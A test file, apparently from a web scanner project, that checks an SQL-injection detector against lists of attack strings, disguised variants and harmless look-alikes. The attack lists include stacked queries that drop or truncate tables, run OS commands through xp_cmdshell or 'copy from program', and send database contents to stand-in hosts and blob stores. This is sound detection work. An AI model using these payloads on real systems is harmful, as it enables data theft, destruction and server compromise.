import { describe, expect, it } from 'vitest'
import { familyTotalOf } from './scan-score.ts'

const attacks: readonly string[] = [
  // Files, programs and settings of a server, as a second statement.
  '7;select pg_ls_waldir();--',
  '7;select lo_create(43213);--',
  "3'; use tempdb; exec sp_configure 'x', 1;--",
  "9;COPY notes(a, b) TO '/srv/www/a.txt';",
  "9;copy notes from program 'id'",
  "1;BACKUP DATABASE shop TO DISK='\\\\10.1.2.3\\s\\a.bak'",
  "1;RESTORE VERIFYONLY FROM DISK = '\\\\10.1.2.3\\s'",
  "1; bulk insert t from '\\\\10.1.2.3\\s\\x'",
  '4; DROP customers--',
  "4'; desc users;-- -",
  "1';flush privileges;#",
  '1;create extension dblink;--',
  "1';do sleep(4);--",
  '1;DO $$ begin perform pg_sleep(3); end $$;--',
  // The rows of an INSERT.
  'x@y.example", "a"), ("z@y.example", "b") ON DUPLICATE KEY UPDATE pass="b" -- ',
  "x', 'y') on conflict (id) do update set role='admin'--",
  "x','y') returning secret--",
  // Which engine is it?
  "crc32('q')=crc32('q')",
  'binary_checksum(9)=binary_checksum(9)',
  'quote_literal(4.5)=quote_literal(4.5)',
  'lnnvl(0=7)',
  '1 and cdbl(7)=cdbl(7)',
  // Packages of Oracle.
  "'||(select dbms_xslprocessor.read2clob('D','x.txt') from dual)||'",
  "'||(select mdsys.sdo_util.to_gmlgeometry(null) from dual)--",
  `'||(select rtrim(extract(xmlagg(xmlelement("e",name||',')),'/e').getstringval(),',') from all_users)--`,
  // Columns are counted by variables.
  "3' limit 0,1 into @,@,@-- ",
  '3 limit 1 into @a,@b#',
  // Names in back quotes, and the language of Cassandra.
  'name` union select 1,2,3#',
  'project.notes` where 1=1 union all select mail from users#',
  "bob' ALLOW FILTERING;--",
  "1' union values row(1,2)-- ",
  '*/or 1=1#',
  "x' union table users#",
  '1 union all table accounts limit 1 offset 2-- -',
  "1' and ('a','b')>(table members limit 1)-- -",
  "x'; copy into 'azure://acct.blob.example/c' from accounts;--",
  '1; copy into @stg/x from (select * from users)',
]

/** Marks that the application takes out, or reads as blanks. */
const disguised: readonly string[] = [
  'un<>ion sel<>ect 1,2,3',
  `x' uni","on sel","ect a,b from c`,
  '1’)) union se”,”lect 1,2,3#',
  "1' unio<b>n selec<b>t 1,2#",
  '1 UNIunionON SELselectECT 1,2,3',
  "1' FOR XML PATH('')--",
  "7' INTO @x,@y#",
  "7' PREPARE q FROM 0x73656c65637420313b; EXECUTE q;#",
  '7;WITH q AS (DELETE FROM parts RETURNING *) SELECT * FROM q',
  '`) UNION SELECT 3,4 -- `',
  '-7`or`1`=`1',
  "startsWith(n,'q'') = true and 1=(SELECT CAST((SELECT version()) AS integer)) -- ') = true",
  'ids[0,updatexml(0,concat(0xa,user()),0)]=7',
  '3.e(ascii 3.e(substring(3.e(select pin from staff limit 1 3.e,1 3.e) 3.e)3.e)3.e) = 70',
  '7\u0085union\u2003select 1,2,3--',
  "O'Hara' OR mail LIKE '%@shop.example",
  '7 OR JSON_LENGTH("{}")<=88',
  "(SELECT 'q'+(CASE WHEN (7=7) THEN '1' ELSE '0' END)+'q')",
  "7 and like('abc',upper(hex(randomblob(90000000))))",
  'select * from parts where 1=1; truncate journal',
  "1' %U%N%I%O%N %S%E%L%E%C%T 1,2,3--",
  "1' union # anything select 1,2--",
  '4\nor\n2=2\n--',
  "1'+and+'7'+like+'7",
  "9'+waitfor+delay+'0:0:5'--",
  "<a><b>EXEC master..xp_cmdshell 'ver'</b></a>",
  "<q>exec sp_configure 'show advanced options', 1</q>",
  "<q>execute xp_regread 'HKEY_LOCAL_MACHINE', 'SYSTEM', 'x'</q>",
  '<?xml version="1.0"?><r><d>select a from b into outfile \'/x\'</d></r>',
  '<?xml version="1.0"?><r><i>7</i><d>1 union select name from staff</d></r>',
  "8';set role keeper;--",
  '$$;copy staff from program $$ls$$;--',
]

const harmless: readonly string[] = [
  'menu; use caution; drop weight',
  'Open it; select item(s) from the list, then restore the database log',
  'copy notes to disk, restore from tape',
  'SELECT DATE_FORMAT(day, "%Y%m%d%H") is how I group',
  'f(x)=f(x)',
  'polygon(50% 0%, 100% 50%, 50% 100%)',
  "const db = pg_connect('host=a'); pg_query(db, q)",
  'dbms_output.put_line(total)',
  'Use `id` or `name`; union of both',
  'prefix_`value` or other',
  'pre-select, un-ion and se-lect',
  'Uni,on the hill',
  'if this or\nthat happens, or\nboth',
  'a+b+c=d',
  'for xml and for json, path by path',
  "the boss's print dialog",
  'use `a` or `b`',
  'arr[0, 1] = 5',
  "O'Hara or O'Neil",
  'with x as y; with z',
  'https://shop.example/?q=red+or+blue+and+green',
  '*/ and so the comment ends',
  "We don't allow filtering by colour",
  'items[0] = values[1]; names[2]',
  'credit union table of rates limit',
  '(table tennis limit 4 players) and more',
  "copy into 'Downloads' from the camera",
  'copy into a new folder from my phone',
  'select colour size, 2 items please',
  'Search: "union all select" guitar strings | Strings & Co',
  '<li>The procedure is off by default</li>',
  '<li>exec summary</li><li>sp_configure</li>',
  '<?xml version="1.0"?><order><note>select a colour from the list</note><n>7</n></order>',
  "copy the list from program 'A' to the other",
  'set role models; be one',
]

describe('SQL of certain engines', () => {
  it.each(attacks)('is denied: %s', (value) => {
    expect(familyTotalOf('sqli', value)).toBeGreaterThanOrEqual(80)
  })

  it.each(disguised)('is denied in disguise: %s', (value) => {
    expect(familyTotalOf('sqli', value)).toBeGreaterThanOrEqual(80)
  })

  it.each(harmless)('is not seen in: %s', (value) => {
    expect(familyTotalOf('sqli', value)).toBeLessThan(40)
  })

  it('is found in the brackets of a name', () => {
    const given = { kind: 'name', where: 'query.ids' } as const
    expect(familyTotalOf('sqli', 'ids[0;select sleep(5);#]', given)).toBeGreaterThanOrEqual(80)
    expect(familyTotalOf('sqli', "ids[0' or 1=1#]", given)).toBeGreaterThanOrEqual(80)
    expect(familyTotalOf('sqli', 'filter[selected or new]', given)).toBeLessThan(40)
    expect(familyTotalOf('sqli', 'ids[0;select sleep(5);#]')).toBeGreaterThanOrEqual(80)
  })
})
